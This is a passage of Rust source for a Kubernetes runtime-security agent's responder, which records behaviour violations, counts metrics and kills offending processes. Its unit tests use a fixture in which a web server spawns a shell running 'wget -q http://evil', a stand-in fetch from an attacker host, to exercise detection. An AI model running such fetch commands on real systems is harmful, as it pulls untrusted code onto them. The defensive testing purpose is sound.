//! What a violation becomes: a metric, a BehaviorViolation record, and, when its rule asks
//! for it, a killed process.
//!
//! The [`Responder`] runs in the event loop. For each finding it counts
//! `herdwatch_agent_violations_total{namespace, workload, rule, mode}` (workload is the owner
//! kind/name: bounded, never a pod or a pid), kills the offending process once per event if
//! any finding asks for it ([`kill`]; unless the kernel already did at exec, as the exec
//! event says; never in a protected namespace), and updates the in-memory record of (pod, rule,
//! subject): count, last time, kill result. Whether that record is written now is the
//! model's `Dedup` decision: the first sighting creates it, repeats are written at most once
//! per key interval and all writes share a token bucket; a sighting the limiter holds back
//! is still counted, and its count goes out with the next write ([`Responder::flush`] sends
//! the held-back ones when they are due). Writes leave through a bounded channel to the
//! [`writer`] task, so the event loop never waits on the API; when the channel is full the
//! write is counted as dropped and sent again at the next flush.
//!
//! The record names the node, pod, container, image digest, the first event, the process
//! ancestry, the exec-session flag and the action asked for. It is owned by the
//! BehaviorProfile whose rule was broken (not by the pod: it is the evidence that outlives
//! the pod); a policy violation has no owner. The operator reads it and carries out the
//! action.

pub mod kill;
pub mod writer;

use std::collections::{BTreeMap, HashMap, HashSet};
use std::sync::Arc;
use std::time::Duration;

use herdwatch_abi::Event as KernelEvent;
use herdwatch_api::common::{FileAccess, Protocol as ApiProtocol, ResponseAction as ApiAction};
use herdwatch_api::convert::{access_from_model, to_time};
use herdwatch_api::observation::NODE_LABEL;
use herdwatch_api::violation::{
    Ancestor, BehaviorViolationSpec, EventKind as ApiEventKind, KilledBy, RuleSource,
    ViolationEvent, WorkloadRef,
};
use herdwatch_api::BehaviorViolation;
use herdwatch_model::net::Protocol;
use herdwatch_model::response::{Dedup, Emit, ResponseAction, TokenBucket, ViolationKey};
use herdwatch_model::Timestamp;
use k8s_openapi::apimachinery::pkg::apis::meta::v1::{ObjectMeta, OwnerReference};
use prometheus::{IntCounter, IntCounterVec};
use tokio::sync::mpsc;
use tracing::{info, warn};

use crate::attribution::pods::PodMeta;
use crate::attribution::proctable::{Process, ProcessTable};
use crate::attribution::translate::KindParts;
use crate::evaluate::{Finding, Source};

use self::kill::ProcessKiller;

/// Ancestors recorded at most (the CRD's bound).
pub const MAX_ANCESTORS: usize = 16;
/// Arguments recorded per ancestor, and characters per argument.
const ANCESTOR_ARGS: usize = 16;
const ANCESTOR_ARG_CHARS: usize = 256;
/// Arguments of the offending process, and characters per argument.
const EVENT_ARGS: usize = 64;
const EVENT_ARG_CHARS: usize = 1024;
/// Characters of paths, rules and other strings the CRD bounds.
const MAX_TEXT: usize = 256;

fn bounded(s: &str, max_chars: usize) -> String {
    match s.char_indices().nth(max_chars) {
        Some((cut, _)) => s[..cut].to_owned(),
        None => s.to_owned(),
    }
}

fn bounded_args<'a>(args: impl Iterator<Item = &'a str>, max: usize, chars: usize) -> Vec<String> {
    args.take(max).map(|a| bounded(a, chars)).collect()
}

/// The API's name of a model action.
pub fn api_action(a: ResponseAction) -> ApiAction {
    match a {
        ResponseAction::None => ApiAction::None,
        ResponseAction::Tag => ApiAction::Tag,
        ResponseAction::Kill => ApiAction::Kill,
    }
}

fn api_protocol(p: Protocol) -> ApiProtocol {
    match p {
        Protocol::Tcp => ApiProtocol::Tcp,
        Protocol::Udp => ApiProtocol::Udp,
    }
}

/// The record's description of the event.
pub fn violation_event(
    event: &KernelEvent,
    kind: &KindParts<'_>,
    process: &Process,
    uid: u32,
    in_image: Option<bool>,
) -> ViolationEvent {
    let mut v = ViolationEvent {
        kind: ApiEventKind::Exec,
        exe: bounded(&process.exe, 4096),
        argv: bounded_args(process.argv.iter(), EVENT_ARGS, EVENT_ARG_CHARS),
        uid,
        pid: Some(event.header().pid),
        exec_session: process.exec_session,
        in_image,
        ..ViolationEvent::default()
    };
    match kind {
        KindParts::Exec => {}
        KindParts::File { path, access } => {
            v.kind = ApiEventKind::File;
            v.path = Some(bounded(path, 4096));
            v.access = access_from_model(*access);
            if v.access.is_empty() {
                // An O_PATH open neither reads nor writes; the learned form is a read.
                v.access = vec![FileAccess::Read];
            }
        }
        KindParts::Connect { ip, port, protocol } => {
            v.kind = ApiEventKind::Connect;
            v.peer = Some(ip.to_string());
            v.port = Some(*port);
            v.protocol = Some(api_protocol(*protocol));
        }
        KindParts::Listen { port, protocol } => {
            v.kind = ApiEventKind::Listen;
            v.port = Some(*port);
            v.protocol = Some(api_protocol(*protocol));
        }
        KindParts::Syscall { name } => {
            v.kind = ApiEventKind::Syscall;
            v.syscall = Some(name.to_string());
        }
        KindParts::SetUid { uid } => {
            v.kind = ApiEventKind::Setuid;
            v.new_uid = Some(*uid);
        }
    }
    v
}

/// The ancestors of `process`, nearest first: up to and including the first one outside
/// its container (the runtime that started it: a shim, or `runc` for an exec session),
/// at most [`MAX_ANCESTORS`].
pub fn ancestry(table: &ProcessTable, process: &Process) -> Vec<Ancestor> {
    let mut out = Vec::new();
    let mut seen = HashSet::from([process.pid]);
    let mut next = process.ppid;
    while out.len() < MAX_ANCESTORS && next != 0 && seen.insert(next) {
        let Some(p) = table.peek(next) else { break };
        out.push(Ancestor {
            pid: p.pid,
            exe: bounded(&p.exe, 4096),
            argv: bounded_args(p.argv.iter(), ANCESTOR_ARGS, ANCESTOR_ARG_CHARS),
            uid: p.uid,
        });
        if p.container != process.container {
            break;
        }
        next = p.ppid;
    }
    out
}

/// What the event loop knows of an offending event, owned (built before the attribution's
/// borrow of the pipeline ends).
#[derive(Clone, Debug)]
pub struct ViolationContext {
    pub pod: Arc<PodMeta>,
    /// Index into `pod.containers`.
    pub container: usize,
    pub event: ViolationEvent,
    /// Pid and start time of the offending process.
    pub process: (u32, u64),
    pub ancestry: Vec<Ancestor>,
    /// The kernel killed the process at its exec, before it ran (the exec event's flag).
    pub killed_in_kernel: bool,
    /// The process is its container's init (PID 1).
    pub container_init: bool,
}

/// Recorded as the kill's error when a container's init is spared.
pub const SPARED_INIT: &str = "not killed: the process is its container's init (PID 1), which restarts the container; set killContainerInit to kill it";

/// What the kill asked for by an event's findings came to.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum KillOutcome {
    NotAsked,
    Killed,
    /// The kernel killed it at exec, before it ran a single instruction.
    KilledInKernel,
    /// Not killed: it is its container's init and no rule asked for that.
    SparedInit,
    /// Not killed: the profile or policy (named) used its process kills of the minute.
    RateLimited(String),
    Failed(String),
}

impl KillOutcome {
    /// The metric label of the outcome.
    fn label(&self) -> &'static str {
        match self {
            KillOutcome::NotAsked => "not_asked",
            KillOutcome::Killed => "killed",
            KillOutcome::KilledInKernel => "killed_in_kernel",
            KillOutcome::SparedInit => "spared_init",
            KillOutcome::RateLimited(_) => "rate_limited",
            KillOutcome::Failed(_) => "failed",
        }
    }

    /// Why the process was not killed when a kill was asked for, for the record.
    fn error(&self) -> Option<String> {
        match self {
            KillOutcome::Failed(e) => Some(bounded(e, MAX_TEXT)),
            KillOutcome::SparedInit => Some(SPARED_INIT.to_owned()),
            KillOutcome::RateLimited(source) => Some(bounded(
                &format!("not killed: {source} used its process kills of this minute on this node (--process-kills-per-minute)"),
                MAX_TEXT,
            )),
            _ => None,
        }
    }

    /// Who killed the process, when it was killed.
    fn killed_by(&self) -> Option<KilledBy> {
        match self {
            KillOutcome::Killed => Some(KilledBy::Agent),
            KillOutcome::KilledInKernel => Some(KilledBy::Kernel),
            KillOutcome::NotAsked
            | KillOutcome::SparedInit
            | KillOutcome::RateLimited(_)
            | KillOutcome::Failed(_) => None,
        }
    }
}

/// The record key of a finding.
pub fn violation_key(pod: &PodMeta, finding: &Finding) -> ViolationKey {
    ViolationKey {
        namespace: pod.namespace.clone(),
        pod: pod.name.clone(),
        rule: bounded(&finding.violation.rule.to_string(), MAX_TEXT),
        subject: bounded(&finding.violation.subject, MAX_TEXT),
    }
}

/// The record of the first sighting of `finding`.
pub fn build_record(
    node: &str,
    key: &ViolationKey,
    finding: &Finding,
    ctx: &ViolationContext,
    kill: &KillOutcome,
    now: Timestamp,
) -> BehaviorViolation {
    let pod = &ctx.pod;
    let container = pod.containers.get(ctx.container);
    let (source, profile, policy, owner) = match &finding.source {
        Source::Profile { name, uid } => (
            RuleSource::Profile,
            Some(name.clone()),
            None,
            Some(OwnerReference {
                api_version: format!("{}/{}", herdwatch_api::GROUP, herdwatch_api::VERSION),
                kind: "BehaviorProfile".into(),
                name: name.clone(),
                uid: uid.clone(),
                controller: None,
                block_owner_deletion: None,
            }),
        ),
        Source::Policy { name } => (RuleSource::Policy, None, Some(name.clone()), None),
    };
    let spec = BehaviorViolationSpec {
        source,
        profile,
        policy,
        rule: key.rule.clone(),
        subject: key.subject.clone(),
        node: node.to_owned(),
        pod: pod.name.clone(),
        pod_uid: pod.uid.clone(),
        container: container.map(|c| c.name.clone()).unwrap_or_default(),
        image_digest: container
            .and_then(|c| c.image_digest.clone())
            .unwrap_or_default(),
        workload: WorkloadRef {
            kind: pod.workload.kind.clone(),
            name: pod.workload.name.clone(),
        },
        event: ctx.event.clone(),
        ancestry: ctx.ancestry.clone(),
        count: 1,
        first_seen: to_time(now),
        last_seen: to_time(now),
        action: api_action(finding.action),
        process_killed: kill.killed_by().is_some(),
        process_killed_by: kill.killed_by(),
        process_kill_error: kill.error(),
    };
    let name = key.object_name();
    let mut v = BehaviorViolation::new(&name, spec);
    v.metadata = ObjectMeta {
        name: Some(name),
        namespace: Some(pod.namespace.clone()),
        labels: Some(BTreeMap::from([(NODE_LABEL.to_owned(), node.to_owned())])),
        owner_references: owner.map(|o| vec![o]),
        ..ObjectMeta::default()
    };
    v
}

/// A repeat sighting of a record.
fn note_repeat(v: &mut BehaviorViolation, kill: &KillOutcome, now: Timestamp) {
    let s = &mut v.spec;
    s.count += 1;
    s.last_seen = to_time(now);
    match kill {
        KillOutcome::NotAsked => {}
        KillOutcome::Killed | KillOutcome::KilledInKernel => {
            s.process_killed = true;
            s.process_killed_by = kill.killed_by();
        }
        KillOutcome::Failed(_) | KillOutcome::SparedInit | KillOutcome::RateLimited(_) => {
            s.process_kill_error = kill.error()
        }
    }
}

/// The responder's metrics (shared with the registry).
#[derive(Clone, Debug)]
pub struct ResponseMetrics {
    /// `herdwatch_agent_violations_total{namespace, workload, rule, mode}`.
    pub violations: IntCounterVec,
    /// `herdwatch_agent_violation_writes_dropped_total`.
    pub dropped: IntCounter,
    /// `herdwatch_agent_process_kills_total{result}`.
    pub kills: IntCounterVec,
}

/// Settings of the responder.
#[derive(Clone, Debug)]
pub struct ResponderConfig {
    /// Records tracked in memory (the model's dedup capacity).
    pub capacity: usize,
    /// Namespaces where processes are never killed (see
    /// `crate::evaluate::kernel::protected_namespaces`).
    pub protected_namespaces: Vec<String>,
    /// Process kills per minute each profile and each policy may ask this agent for (a
    /// burst of as many); 0 for no limit. A rule that matches far more than meant stops
    /// killing after that, and its records say so.
    pub process_kills_per_minute: u32,
}

/// Kill budgets kept; emptied when full (a forgotten budget starts full again).
const MAX_KILL_BUDGETS: usize = 4096;

/// The event loop's side of violations.
pub struct Responder {
    node: String,
    dedup: Dedup,
    capacity: usize,
    /// The current content of every tracked record.
    records: HashMap<ViolationKey, BehaviorViolation>,
    /// Keys whose write did not fit in the channel.
    unsent: HashSet<ViolationKey>,
    /// The count each record had when last handed to the writer.
    sent: HashMap<ViolationKey, u64>,
    tx: mpsc::Sender<BehaviorViolation>,
    /// None when process kills are turned off on this agent.
    killer: Option<Box<dyn ProcessKiller>>,
    protected_namespaces: Vec<String>,
    kills_per_minute: u32,
    /// Per profile or policy: what is left of its process kills.
    kill_budgets: HashMap<String, TokenBucket>,
    metrics: ResponseMetrics,
}

impl Responder {
    pub fn new(
        node: &str,
        dedup: Dedup,
        config: ResponderConfig,
        tx: mpsc::Sender<BehaviorViolation>,
        killer: Option<Box<dyn ProcessKiller>>,
        metrics: ResponseMetrics,
    ) -> Self {
        Responder {
            node: node.to_owned(),
            dedup,
            capacity: config.capacity.max(1),
            records: HashMap::new(),
            unsent: HashSet::new(),
            sent: HashMap::new(),
            tx,
            killer,
            protected_namespaces: config.protected_namespaces,
            kills_per_minute: config.process_kills_per_minute,
            kill_budgets: HashMap::new(),
            metrics,
        }
    }

    /// Records tracked in memory.
    pub fn tracked(&self) -> usize {
        self.records.len()
    }

    /// Takes one of `source`'s process kills; false when it has none left.
    fn take_kill(&mut self, source: &str, now: Timestamp) -> bool {
        if self.kills_per_minute == 0 {
            return true;
        }
        if !self.kill_budgets.contains_key(source) && self.kill_budgets.len() >= MAX_KILL_BUDGETS {
            self.kill_budgets.clear();
        }
        let per_minute = self.kills_per_minute;
        self.kill_budgets
            .entry(source.to_owned())
            .or_insert_with(|| {
                TokenBucket::new(per_minute, Duration::from_secs(60) / per_minute, now)
            })
            .try_take(now)
    }

    fn kill(
        &mut self,
        findings: &[Finding],
        ctx: &ViolationContext,
        now: Timestamp,
    ) -> KillOutcome {
        if ctx.killed_in_kernel {
            // Nothing left to signal; recorded whatever the findings ask, since it happened.
            info!(
                pid = ctx.process.0,
                namespace = %ctx.pod.namespace,
                pod = %ctx.pod.name,
                exe = %ctx.event.exe,
                "the kernel killed the offending process at exec"
            );
            self.count_kill(KillOutcome::KilledInKernel.label());
            return KillOutcome::KilledInKernel;
        }
        if !findings.iter().any(|f| f.kill_process) {
            return KillOutcome::NotAsked;
        }
        if ctx.container_init
            && !findings
                .iter()
                .any(|f| f.kill_process && f.kill_container_init)
        {
            info!(
                pid = ctx.process.0,
                namespace = %ctx.pod.namespace,
                pod = %ctx.pod.name,
                exe = %ctx.event.exe,
                "spared the offending process: it is its container's init (killContainerInit is off)"
            );
            self.count_kill(KillOutcome::SparedInit.label());
            return KillOutcome::SparedInit;
        }
        if self.killer.is_some() {
            let source = findings
                .iter()
                .find(|f| f.kill_process)
                .map(|f| match &f.source {
                    Source::Profile { name, .. } => {
                        format!("profile {}/{name}", ctx.pod.namespace)
                    }
                    Source::Policy { name } => format!("policy {name}"),
                })
                .unwrap_or_default();
            if !self.take_kill(&source, now) {
                warn!(
                    pid = ctx.process.0,
                    namespace = %ctx.pod.namespace,
                    pod = %ctx.pod.name,
                    %source,
                    "not killing the offending process: its rule used its process kills of this minute"
                );
                let outcome = KillOutcome::RateLimited(source);
                self.count_kill(outcome.label());
                return outcome;
            }
        }
        if self.protected_namespaces.contains(&ctx.pod.namespace) {
            self.count_kill("protected");
            return KillOutcome::Failed(format!(
                "namespace {} is protected: herdwatch never kills processes there",
                ctx.pod.namespace
            ));
        }
        let outcome = match &self.killer {
            None => KillOutcome::Failed(
                "process kills are turned off on this agent (--kill-processes=false)".into(),
            ),
            Some(k) => match k.kill(ctx.process.0, ctx.process.1) {
                Ok(()) => KillOutcome::Killed,
                Err(e) => KillOutcome::Failed(e.to_string()),
            },
        };
        match &outcome {
            KillOutcome::Killed => info!(
                pid = ctx.process.0,
                namespace = %ctx.pod.namespace,
                pod = %ctx.pod.name,
                exe = %ctx.event.exe,
                "killed the offending process"
            ),
            KillOutcome::Failed(error) => warn!(
                pid = ctx.process.0,
                namespace = %ctx.pod.namespace,
                pod = %ctx.pod.name,
                %error,
                "could not kill the offending process"
            ),
            KillOutcome::NotAsked
            | KillOutcome::KilledInKernel
            | KillOutcome::SparedInit
            | KillOutcome::RateLimited(_) => {}
        }
        let label = match (&outcome, self.killer.is_none()) {
            (KillOutcome::Failed(_), true) => "disabled",
            _ => outcome.label(),
        };
        self.count_kill(label);
        outcome
    }

    fn count_kill(&self, result: &str) {
        self.metrics.kills.with_label_values(&[result]).inc();
    }

    /// The kernel killed a process at exec that the evaluator, judging the same exec, did
    /// not find at fault: the rules changed in between (the kernel's copy is brought up to
    /// date once per metrics interval). Counted and logged, as there is no record to put
    /// it in.
    pub fn killed_in_kernel_without_finding(&self, pod: &PodMeta, pid: u32, exe: &str) {
        warn!(
            pid,
            namespace = %pod.namespace,
            pod = %pod.name,
            exe,
            "the kernel killed a process that the current rules allow; its rules were changing"
        );
        self.count_kill(KillOutcome::KilledInKernel.label());
    }

    fn send(&mut self, key: &ViolationKey) {
        let Some(v) = self.records.get(key) else {
            return;
        };
        match self.tx.try_send(v.clone()) {
            Ok(()) => {
                self.unsent.remove(key);
                self.sent.insert(key.clone(), v.spec.count);
            }
            Err(mpsc::error::TrySendError::Full(_) | mpsc::error::TrySendError::Closed(_)) => {
                self.metrics.dropped.inc();
                self.unsent.insert(key.clone());
            }
        }
    }

    /// Answers the findings of one event.
    pub fn respond(&mut self, findings: &[Finding], ctx: &ViolationContext, now: Timestamp) {
        if findings.is_empty() {
            return;
        }
        let kill = self.kill(findings, ctx, now);
        let workload = format!("{}/{}", ctx.pod.workload.kind, ctx.pod.workload.name);
        for f in findings {
            let key = violation_key(&ctx.pod, f);
            self.metrics
                .violations
                .with_label_values(&[
                    ctx.pod.namespace.as_str(),
                    &workload,
                    &key.rule,
                    crate::metrics::mode_label(f.mode),
                ])
                .inc();
            let emit = self.dedup.record(&key, now);
            match self.records.get_mut(&key) {
                Some(v) => note_repeat(v, &kill, now),
                None => {
                    let v = build_record(&self.node, &key, f, ctx, &kill, now);
                    self.records.insert(key.clone(), v);
                }
            }
            if matches!(emit, Emit::Create | Emit::Update(_)) {
                self.send(&key);
            }
        }
        if self.records.len() > self.capacity {
            // The model's dedup forgot its least recently seen keys: so does this.
            let dedup = &self.dedup;
            self.records.retain(|k, _| dedup.contains(k));
            let records = &self.records;
            self.unsent.retain(|k| records.contains_key(k));
            self.sent.retain(|k, _| records.contains_key(k));
        }
    }

    /// Sends the records whose held-back counts are due, and those that did not fit in the
    /// channel before.
    pub fn flush(&mut self, now: Timestamp) {
        let mut keys: Vec<ViolationKey> = self.dedup.due(now).into_iter().map(|(k, _)| k).collect();
        keys.extend(self.unsent.iter().cloned());
        keys.sort();
        keys.dedup();
        for k in keys {
            self.send(&k);
        }
    }

    /// Sends every record with sightings not yet handed to the writer, limits aside: for
    /// shutting down, so that held-back counts are not lost with the agent.
    pub fn flush_all(&mut self) {
        let mut keys: Vec<ViolationKey> = self
            .records
            .iter()
            .filter(|(k, v)| self.sent.get(*k).is_none_or(|c| *c < v.spec.count))
            .map(|(k, _)| k.clone())
            .collect();
        keys.sort();
        for k in keys {
            self.send(&k);
        }
    }

    /// The current record of `key` (tests and diagnostics).
    pub fn record(&self, key: &ViolationKey) -> Option<&BehaviorViolation> {
        self.records.get(key)
    }
}

impl std::fmt::Debug for Responder {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Responder")
            .field("node", &self.node)
            .field("records", &self.records.len())
            .field("unsent", &self.unsent.len())
            .field("kills", &self.killer.is_some())
            .finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attribution::argv::Argv;
    use crate::attribution::proctable::{NewProcess, TableConfig};
    use crate::error::Error;
    use crate::evaluate::tests::pod;
    use crate::synth;
    use herdwatch_model::{RuleRef, Violation};
    use prometheus::Opts;
    use std::sync::Mutex;

    fn metrics() -> ResponseMetrics {
        ResponseMetrics {
            violations: IntCounterVec::new(Opts::new("v", "v"), &crate::metrics::VIOLATION_LABELS)
                .unwrap(),
            dropped: IntCounter::new("d", "d").unwrap(),
            kills: IntCounterVec::new(Opts::new("k", "k"), &["result"]).unwrap(),
        }
    }

    #[derive(Default)]
    struct FakeKiller {
        calls: Arc<Mutex<Vec<(u32, u64)>>>,
        fail: bool,
    }

    impl ProcessKiller for FakeKiller {
        fn kill(&self, pid: u32, start: u64) -> crate::Result<()> {
            self.calls.lock().unwrap().push((pid, start));
            if self.fail {
                Err(Error::ProcessGone { pid })
            } else {
                Ok(())
            }
        }
    }

    fn table() -> (ProcessTable, Process) {
        let mut t = ProcessTable::new(TableConfig::default());
        let c = |id: &str| Some(Arc::<str>::from(id));
        let np = |pid, ppid, exe: &str, argv: &[u8], container| NewProcess {
            pid,
            ppid,
            start_time_ns: u64::from(pid) * 1000,
            uid: 0,
            exe: exe.into(),
            file_name: None,
            argv: Argv::from_nul_block(argv, false),
            cgroup_id: 1,
            container,
        };
        t.exec(np(1, 0, "/sbin/init", b"init\0", None));
        t.exec(np(
            500,
            1,
            "/usr/bin/containerd-shim-runc-v2",
            b"shim\0",
            None,
        ));
        t.exec(np(600, 500, "/usr/sbin/nginx", b"nginx\0", c("c1")));
        t.exec(np(601, 600, "/bin/sh", b"sh\0-c\0wget x\0", c("c1")));
        let wget = t
            .exec(np(
                602,
                601,
                "/usr/bin/wget",
                b"wget\0-q\0http://evil\0",
                c("c1"),
            ))
            .clone();
        (t, wget)
    }

    #[test]
    fn ancestry_stops_outside_the_container() {
        let (t, wget) = table();
        let a = ancestry(&t, &wget);
        let chain: Vec<_> = a.iter().map(|x| (x.pid, x.exe.as_str())).collect();
        assert_eq!(
            chain,
            [
                (601, "/bin/sh"),
                (600, "/usr/sbin/nginx"),
                (500, "/usr/bin/containerd-shim-runc-v2")
            ]
        );
        assert_eq!(a[0].argv, ["sh", "-c", "wget x"]);
    }

    fn finding(source: Source, kill: bool) -> Finding {
        Finding {
            violation: Violation {
                rule: match &source {
                    Source::Profile { .. } => {
                        RuleRef::Profile(herdwatch_model::Category::Processes)
                    }
                    Source::Policy { name } => RuleRef::Policy {
                        policy: name.clone(),
                        rule: "wget".into(),
                    },
                },
                subject: "/usr/bin/wget".into(),
            },
            source,
            action: ResponseAction::Tag,
            kill_process: kill,
            kill_container_init: false,
            mode: herdwatch_api::common::Mode::Enforce,
        }
    }

    fn context() -> ViolationContext {
        let (t, wget) = table();
        let ev = synth::exec(602, 601, 0, 1, 602_000, b"/usr/bin/wget", b"wget\0");
        ViolationContext {
            pod: Arc::new(pod()),
            container: 0,
            event: violation_event(&ev, &KindParts::Exec, &wget, 0, Some(true)),
            process: (wget.pid, wget.start_time_ns),
            ancestry: ancestry(&t, &wget),
            killed_in_kernel: false,
            container_init: false,
        }
    }

    #[test]
    fn records_carry_the_evidence_and_the_profile_owns_them() {
        let ctx = context();
        let f = finding(
            Source::Profile {
                name: "web-nginx".into(),
                uid: "puid".into(),
            },
            true,
        );
        let key = violation_key(&ctx.pod, &f);
        assert_eq!(key.rule, "profile/processes");
        let v = build_record(
            "node-1",
            &key,
            &f,
            &ctx,
            &KillOutcome::Killed,
            Timestamp(1_764_000_000),
        );
        let s = &v.spec;
        assert_eq!(v.metadata.name.as_deref(), Some(key.object_name().as_str()));
        assert_eq!(v.metadata.namespace.as_deref(), Some("shop"));
        let owner = &v.metadata.owner_references.as_ref().unwrap()[0];
        assert_eq!(
            (owner.kind.as_str(), owner.name.as_str(), owner.uid.as_str()),
            ("BehaviorProfile", "web-nginx", "puid")
        );
        assert_eq!(
            (s.source, s.profile.as_deref(), s.policy.as_deref()),
            (RuleSource::Profile, Some("web-nginx"), None)
        );
        assert_eq!(
            (
                s.node.as_str(),
                s.pod.as_str(),
                s.pod_uid.as_str(),
                s.container.as_str()
            ),
            ("node-1", "web-1", "u1", "nginx")
        );
        assert_eq!(s.image_digest, "sha256:aa");
        assert_eq!(
            (s.workload.kind.as_str(), s.workload.name.as_str()),
            ("Deployment", "web")
        );
        assert_eq!(s.event.exe, "/usr/bin/wget");
        assert_eq!(s.event.argv, ["wget", "-q", "http://evil"]);
        assert_eq!(s.event.pid, Some(602));
        assert_eq!(s.ancestry.len(), 3);
        assert_eq!(
            (s.count, s.process_killed, s.process_kill_error.as_deref()),
            (1, true, None)
        );
        // The JSON the API server validates: required fields and the CEL rule's shape.
        let json = serde_json::to_value(&v).unwrap();
        assert_eq!(json["kind"], "BehaviorViolation");
        assert_eq!(json["spec"]["firstSeen"], "2025-11-24T16:00:00Z");
        assert_eq!(json["spec"]["action"], "Tag");

        let p = finding(
            Source::Policy {
                name: "no-fetchers".into(),
            },
            false,
        );
        let pk = violation_key(&ctx.pod, &p);
        let v = build_record(
            "node-1",
            &pk,
            &p,
            &ctx,
            &KillOutcome::Failed("gone".into()),
            Timestamp(0),
        );
        assert_eq!(v.metadata.owner_references, None, "a policy owns nothing");
        assert_eq!(v.spec.policy.as_deref(), Some("no-fetchers"));
        assert_eq!(v.spec.rule, "policy/no-fetchers/wget");
        assert_ne!(pk.object_name(), key.object_name());
    }

    #[test]
    fn long_arguments_are_bounded() {
        let (t, mut wget) = table();
        let long = "x".repeat(5000);
        let args: Vec<&[u8]> = std::iter::repeat_n(long.as_bytes(), 100).collect();
        wget.argv = Argv::from_parts(args, false);
        let ev = synth::exec(602, 601, 0, 1, 0, b"/usr/bin/wget", b"wget\0");
        let e = violation_event(&ev, &KindParts::Exec, &wget, 0, None);
        assert_eq!(e.argv.len(), 64);
        assert!(e.argv.iter().all(|a| a.chars().count() == 1024));
        let _ = t;
    }

    fn responder(
        capacity: usize,
        queue: usize,
        bucket: TokenBucket,
        killer: Option<Box<dyn ProcessKiller>>,
    ) -> (
        Responder,
        mpsc::Receiver<BehaviorViolation>,
        ResponseMetrics,
    ) {
        responder_with(capacity, queue, bucket, killer, 0)
    }

    fn responder_with(
        capacity: usize,
        queue: usize,
        bucket: TokenBucket,
        killer: Option<Box<dyn ProcessKiller>>,
        process_kills_per_minute: u32,
    ) -> (
        Responder,
        mpsc::Receiver<BehaviorViolation>,
        ResponseMetrics,
    ) {
        let (tx, rx) = mpsc::channel(queue);
        let m = metrics();
        let dedup = Dedup::new(capacity, Duration::from_secs(30), bucket);
        (
            Responder::new(
                "node-1",
                dedup,
                ResponderConfig {
                    capacity,
                    protected_namespaces: vec!["kube-system".into()],
                    process_kills_per_minute,
                },
                tx,
                killer,
                m.clone(),
            ),
            rx,
            m,
        )
    }

    /// A responder whose kills a [`FakeKiller`] records (returned), with room for every
    /// write and `process_kills_per_minute` per profile or policy.
    #[expect(clippy::type_complexity, reason = "a test's four handles")]
    fn killing_responder(
        process_kills_per_minute: u32,
    ) -> (
        Responder,
        mpsc::Receiver<BehaviorViolation>,
        ResponseMetrics,
        Arc<Mutex<Vec<(u32, u64)>>>,
    ) {
        let bucket = TokenBucket::new(1000, Duration::from_secs(1), Timestamp(0));
        let calls = Arc::new(Mutex::new(Vec::new()));
        let killer = FakeKiller {
            calls: calls.clone(),
            fail: false,
        };
        let (r, rx, m) = responder_with(
            64,
            64,
            bucket,
            Some(Box::new(killer)),
            process_kills_per_minute,
        );
        (r, rx, m, calls)
    }

    #[test]
    fn repeats_are_counted_and_written_at_a_bounded_rate() {
        let bucket = TokenBucket::new(100, Duration::from_secs(1), Timestamp(0));
        let calls = Arc::new(Mutex::new(Vec::new()));
        let killer = FakeKiller {
            calls: calls.clone(),
            fail: false,
        };
        let (mut r, mut rx, m) = responder(64, 16, bucket, Some(Box::new(killer)));
        let ctx = context();
        let policy = finding(
            Source::Policy {
                name: "no-fetchers".into(),
            },
            true,
        );
        let profile = finding(
            Source::Profile {
                name: "web-nginx".into(),
                uid: "puid".into(),
            },
            false,
        );
        r.respond(&[policy.clone(), profile], &ctx, Timestamp(100));
        // One kill for the event, however many findings.
        assert_eq!(*calls.lock().unwrap(), [(602, 602_000)]);
        let first = rx.try_recv().unwrap();
        assert_eq!(first.spec.count, 1);
        assert!(first.spec.process_killed);
        assert_eq!(first.spec.process_killed_by, Some(KilledBy::Agent));
        assert_eq!(rx.try_recv().unwrap().spec.source, RuleSource::Profile);

        for t in 101..110 {
            r.respond(std::slice::from_ref(&policy), &ctx, Timestamp(t));
        }
        assert!(
            rx.try_recv().is_err(),
            "repeats within the interval are held back"
        );
        let key = violation_key(&ctx.pod, &policy);
        assert_eq!(r.record(&key).unwrap().spec.count, 10);
        r.flush(Timestamp(115));
        assert!(rx.try_recv().is_err(), "not due yet");
        r.flush(Timestamp(130));
        let update = rx.try_recv().unwrap();
        assert_eq!(
            update.spec.count, 10,
            "the held-back sightings go out together"
        );
        assert_eq!(update.spec.last_seen, to_time(Timestamp(109)));
        assert_eq!(update.spec.first_seen, to_time(Timestamp(100)));
        assert_eq!(
            m.violations
                .with_label_values(&[
                    "shop",
                    "Deployment/web",
                    "policy/no-fetchers/wget",
                    "Enforce"
                ])
                .get(),
            10
        );
        assert_eq!(m.kills.with_label_values(&["killed"]).get(), 10);
    }

    #[test]
    fn the_token_bucket_holds_back_creates_too_but_counts_them() {
        let bucket = TokenBucket::new(1, Duration::from_secs(60), Timestamp(0));
        let (mut r, mut rx, _) = responder(64, 16, bucket, None);
        let ctx = context();
        let a = finding(Source::Policy { name: "a".into() }, false);
        let b = finding(Source::Policy { name: "b".into() }, false);
        r.respond(&[a], &ctx, Timestamp(0));
        r.respond(std::slice::from_ref(&b), &ctx, Timestamp(0));
        r.respond(std::slice::from_ref(&b), &ctx, Timestamp(1));
        assert_eq!(rx.try_recv().unwrap().spec.policy.as_deref(), Some("a"));
        assert!(rx.try_recv().is_err(), "the bucket is empty");
        r.flush(Timestamp(60));
        let late = rx.try_recv().unwrap();
        assert_eq!(
            (late.spec.policy.as_deref(), late.spec.count),
            (Some("b"), 2)
        );
    }

    #[test]
    fn shutting_down_sends_every_held_back_count() {
        let bucket = TokenBucket::new(100, Duration::from_secs(1), Timestamp(0));
        let (mut r, mut rx, _) = responder(64, 16, bucket, None);
        let ctx = context();
        let a = finding(Source::Policy { name: "a".into() }, false);
        let b = finding(Source::Policy { name: "b".into() }, false);
        r.respond(&[a.clone(), b], &ctx, Timestamp(0));
        r.respond(std::slice::from_ref(&a), &ctx, Timestamp(1));
        assert_eq!(rx.try_recv().unwrap().spec.count, 1);
        assert_eq!(rx.try_recv().unwrap().spec.count, 1);
        r.flush_all();
        let last = rx.try_recv().unwrap();
        assert_eq!(
            (last.spec.policy.as_deref(), last.spec.count),
            (Some("a"), 2)
        );
        assert!(rx.try_recv().is_err(), "b has nothing new");
    }

    #[test]
    fn a_full_channel_is_counted_and_retried() {
        let bucket = TokenBucket::new(100, Duration::from_secs(1), Timestamp(0));
